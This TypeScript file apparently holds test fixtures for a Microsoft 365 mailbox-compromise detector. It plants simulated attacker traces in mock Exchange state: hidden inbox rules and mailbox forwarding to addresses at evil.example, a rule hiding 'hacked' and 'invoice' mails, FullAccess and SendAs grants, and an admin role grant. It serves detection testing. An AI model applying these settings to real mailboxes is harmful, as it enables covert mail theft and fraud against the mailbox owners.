/** Ways into mailboxes beside rules: forwarding, protocols, add-ins, rights over other mailboxes. */
import { type At, exchangeRows, id, listOf, type Planted, ran, type Trace, without } from './plant';

const other = 'info@contoso.com';
const mailboxOf = (state: Planted, name: string) =>
  exchangeRows(state, 'Mailbox').filter((row) => row['UserPrincipalName'] === name || row['PrimarySmtpAddress'] === name);
const casMailboxOf = (state: Planted, name: string) =>
  exchangeRows(state, 'CASMailbox').filter((row) => row['PrimarySmtpAddress'] === name);
const calendarOf = (state: Planted, { name }: At) => listOf(state.exchange, 'MailboxCalendarFolder', name);

/** @param isLogged whether the unified log has the cmdlet: it lags, and may be off */
const protocol = (
  name: string,
  of: {
    readonly property: string;
    readonly on: boolean;
    readonly isLogged: boolean;
    readonly mailbox?: string;
    readonly words?: string;
  },
): Trace => ({
  name: of.mailbox === undefined ? `${name} turned on` : `${name} turned on for another mailbox`,
  words: of.words ?? `${name} opens the mailbox`,
  plant: (state, at) => {
    for (const row of casMailboxOf(state, of.mailbox ?? at.name)) row[of.property] = of.on;
    if (of.isLogged) ran(state, at, 'Set-CASMailbox', { Identity: of.mailbox ?? at.name, [of.property]: `${of.on}` });
  },
  remove: (state, at) => {
    for (const row of casMailboxOf(state, of.mailbox ?? at.name)) if (row[of.property] === of.on) row[of.property] = !of.on;
  },
});

export const mailboxAccessTraces: readonly Trace[] = [
  {
    name: 'a hidden inbox rule',
    words: 'hidden rule "zz"',
    plant: (state, { name }) =>
      void listOf(state.exchange, 'InboxRule', name).push({
        Identity: 'mia\\91',
        Name: 'zz',
        Enabled: true,
        IsHidden: true,
        ForwardTo: ['"z" [SMTP:z@evil.example]'],
      }),
    remove: (state, { name }) => {
      for (const row of listOf(state.exchange, 'InboxRule', name)) if (row['Name'] === 'zz') row['Enabled'] = false;
    },
  },
  {
    name: 'a rule that hides warnings',
    words: 'rule "..."',
    plant: (state, at) => {
      listOf(state.exchange, 'InboxRule', at.name).push({
        Identity: 'mia\\92',
        Name: '...',
        Enabled: true,
        SubjectOrBodyContainsWords: ['hacked', 'invoice'],
        MoveToFolder: 'mia:\\RSS Feeds',
        MarkAsRead: true,
      });
      ran(state, at, 'New-InboxRule', { Name: '...', MoveToFolder: 'RSS Feeds' });
    },
    remove: (state, { name }) => {
      for (const row of listOf(state.exchange, 'InboxRule', name)) if (row['Name'] === '...') row['Enabled'] = false;
    },
  },
  {
    name: 'a right to another folder of the mailbox',
    words: 'Sent Items',
    plant: (state, at) => {
      listOf(state.exchange, 'MailboxFolderPermission', at.name).push({
        FolderName: 'Sent Items',
        User: other,
        AccessRights: ['Reviewer'],
      });
      ran(state, at, 'Add-MailboxFolderPermission', {
        Identity: `${at.name}:\\Sent Items`,
        User: other,
        AccessRights: 'Reviewer',
      });
    },
    remove: (state, { name }) =>
      without(listOf(state.exchange, 'MailboxFolderPermission', name), (row) => row['FolderName'] === 'Sent Items'),
  },
  {
    name: 'forwarding to an address outside',
    words: 'all mail is forwarded to',
    plant: (state, at) => {
      for (const row of mailboxOf(state, at.name)) row['ForwardingSmtpAddress'] = 'smtp:drop@evil.example';
      ran(state, at, 'Set-Mailbox', { Identity: at.name, ForwardingSmtpAddress: 'smtp:drop@evil.example' });
    },
    remove: (state, at) => {
      for (const row of mailboxOf(state, at.name)) row['ForwardingSmtpAddress'] = null;
    },
  },
  {
    name: 'forwarding to a contact',
    words: 'all mail is forwarded to',
    plant: (state, at) => {
      // A list of recipients has the mailboxes too.
      exchangeRows(state, 'Recipient').push(...structuredClone(exchangeRows(state, 'Mailbox')), {
        Guid: id(42),
        Name: 'Archive',
        Identity: 'Archive',
        RecipientTypeDetails: 'MailContact',
        ExternalEmailAddress: 'SMTP:archive@evil.example',
      });
      for (const row of mailboxOf(state, at.name)) row['ForwardingAddress'] = 'Archive';
    },
    remove: (state, at) => {
      for (const row of mailboxOf(state, at.name)) row['ForwardingAddress'] = null;
    },
  },
  {
    name: 'a right to send on behalf',
    words: 'Di Fox may send on behalf of the account',
    plant: (state, { name }) => {
      for (const row of mailboxOf(state, name)) row['GrantSendOnBehalfTo'] = ['Di Fox'];
    },
    remove: (state, { name }) => {
      for (const row of mailboxOf(state, name)) row['GrantSendOnBehalfTo'] = [];
    },
  },
  {
    name: 'an add-in',
    words: 'add-in of the mailbox, which can read its mail: Mail Helper',
    plant: (state, { name }) =>
      void listOf(state.exchange, 'App', name).push({
        Identity: `mia\\${id(43)}`,
        AppId: id(43),
        DisplayName: 'Mail Helper',
        ProviderName: 'Helpers',
        Scope: 'User',
        Enabled: true,
      }),
    remove: (state, { name }) => {
      for (const row of listOf(state.exchange, 'App', name)) if (row['AppId'] === id(43)) row['Enabled'] = false;
    },
  },
  {
    name: 'a published calendar',
    words: 'the calendar is published',
    plant: (state, at) => {
      for (const row of calendarOf(state, at)) Object.assign(row, { PublishEnabled: true, DetailLevel: 'FullDetails' });
      ran(state, at, 'Set-MailboxCalendarFolder', { Identity: `${at.name}:\\Calendar`, PublishEnabled: 'True' });
    },
    remove: (state, at) => {
      for (const row of calendarOf(state, at)) row['PublishEnabled'] = false;
    },
  },
  {
    name: 'a calendar that is open to anyone',
    words: 'anyone at all may use the folder Calendar',
    plant: (state, { name }) =>
      void listOf(state.exchange, 'MailboxFolderPermission', name).push({
        FolderName: 'Calendar',
        User: 'Anonymous',
        AccessRights: ['Reviewer'],
      }),
    remove: (state, { name }) =>
      without(listOf(state.exchange, 'MailboxFolderPermission', name), (row) => row['User'] === 'Anonymous'),
  },
  protocol('POP', { property: 'PopEnabled', on: true, isLogged: true }),
  protocol('IMAP', { property: 'ImapEnabled', on: true, isLogged: false }),
  protocol('SMTP AUTH', { property: 'SmtpClientAuthenticationDisabled', on: false, isLogged: true }),
  protocol('POP', {
    property: 'PopEnabled',
    on: true,
    isLogged: true,
    mailbox: other,
    words: 'changed which protocols open a mailbox (Set-CASMailbox): info@contoso.com',
  }),
  {
    name: 'a right to open another mailbox',
    words: 'gave rights over a mailbox (Add-MailboxPermission): info@contoso.com',
    plant: (state, at) => {
      listOf(state.exchange, 'MailboxPermission', other).push({
        Identity: 'info',
        User: at.name,
        AccessRights: ['FullAccess'],
        Deny: false,
        IsInherited: false,
      });
      ran(state, at, 'Add-MailboxPermission', { Identity: other, User: at.name, AccessRights: 'FullAccess' });
    },
    remove: (state, at) => without(listOf(state.exchange, 'MailboxPermission', other), (row) => row['User'] === at.name),
  },
  {
    name: 'a right to send as another mailbox',
    words: 'gave rights over a mailbox (Add-RecipientPermission): info@contoso.com',
    plant: (state, at) => {
      listOf(state.exchange, 'RecipientPermission', other).push({
        Identity: 'info',
        Trustee: at.name,
        AccessControlType: 'Allow',
        AccessRights: ['SendAs'],
        IsInherited: false,
      });
      ran(state, at, 'Add-RecipientPermission', { Identity: other, Trustee: at.name, AccessRights: 'SendAs' });
    },
    remove: (state, at) => without(listOf(state.exchange, 'RecipientPermission', other), (row) => row['Trustee'] === at.name),
  },
  {
    name: 'forwarding of another mailbox',
    words: 'changed forwarding or settings of a mailbox (Set-Mailbox): info@contoso.com',
    plant: (state, at) => {
      for (const row of mailboxOf(state, other)) row['ForwardingSmtpAddress'] = 'smtp:drop@evil.example';
      ran(state, at, 'Set-Mailbox', { Identity: other, ForwardingSmtpAddress: 'smtp:drop@evil.example' });
    },
    remove: (state) => {
      for (const row of mailboxOf(state, other)) row['ForwardingSmtpAddress'] = null;
    },
  },
  {
    name: 'membership of an Exchange role group',
    words: 'gave an Exchange role (Add-RoleGroupMember): Organization Management',
    plant: (state, at) => {
      exchangeRows(state, 'RoleGroup').push({
        Guid: id(44),
        Name: 'Organization Management',
        Identity: 'Organization Management',
        Members: [at.name],
      });
      ran(state, at, 'Add-RoleGroupMember', { Identity: 'Organization Management', Member: at.name });
    },
    remove: (state) => {
      for (const group of exchangeRows(state, 'RoleGroup')) if (group['Guid'] === id(44)) group['Members'] = [];
    },
  },
];
